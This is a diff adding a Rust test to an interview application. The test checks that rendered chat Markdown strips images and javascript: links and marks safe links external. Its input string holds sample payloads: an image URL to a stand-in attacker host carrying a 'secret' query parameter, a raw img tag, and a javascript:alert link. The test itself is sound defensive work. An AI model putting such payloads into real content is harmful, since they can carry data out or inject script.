@@ -274,3 +274,40 @@ async fn an_unpriced_hosted_model_is_refused_at_start() {
         "the refusal names the setting: {said}"
     );
 }
+
+/// A message's Markdown is rendered through the allow-list: no image from anywhere (a fetched
+/// image URL could carry data out), only web and mail links, marked external.
+async fn rendered_messages_fetch_nothing_and_links_are_marked(backend: Backend) {
+    let app = TestApp::spawn(backend).await;
+    let candidate = app.signed_up("mara@example.com").await;
+    let id = crate::interviews::start(&candidate).await;
+    let text =
+        "Ready. ![x](https://evil.example/p.png?secret=1) <img src=https://evil.example/i.png> \
+                [docs](https://docs.rs) [bad](javascript:alert(1))";
+    let sent = candidate
+        .server_fn(
+            "send_message",
+            &[("id", &id), ("text", text), ("key", "k1")],
+        )
+        .await;
+    assert_eq!(sent.status(), 200);
+    let detail = json(
+        candidate
+            .server_fn("interview_detail", &[("id", &id)])
+            .await,
+    )
+    .await;
+    let html = detail["messages"]
+        .as_array()
+        .and_then(|m| m.iter().find(|m| m["author"] == "candidate"))
+        .and_then(|m| m["html"].as_str())
+        .expect("the candidate's message")
+        .to_owned();
+    assert!(!html.contains("<img"), "{html}");
+    assert!(!html.contains("evil.example"), "{html}");
+    assert!(!html.contains("javascript:"), "{html}");
+    assert!(html.contains("href=\"https://docs.rs\""), "{html}");
+    assert!(html.contains("noopener noreferrer nofollow"), "{html}");
+    assert!(html.contains("class=\"external\""), "{html}");
+}
+both_backends!(rendered_messages_fetch_nothing_and_links_are_marked);
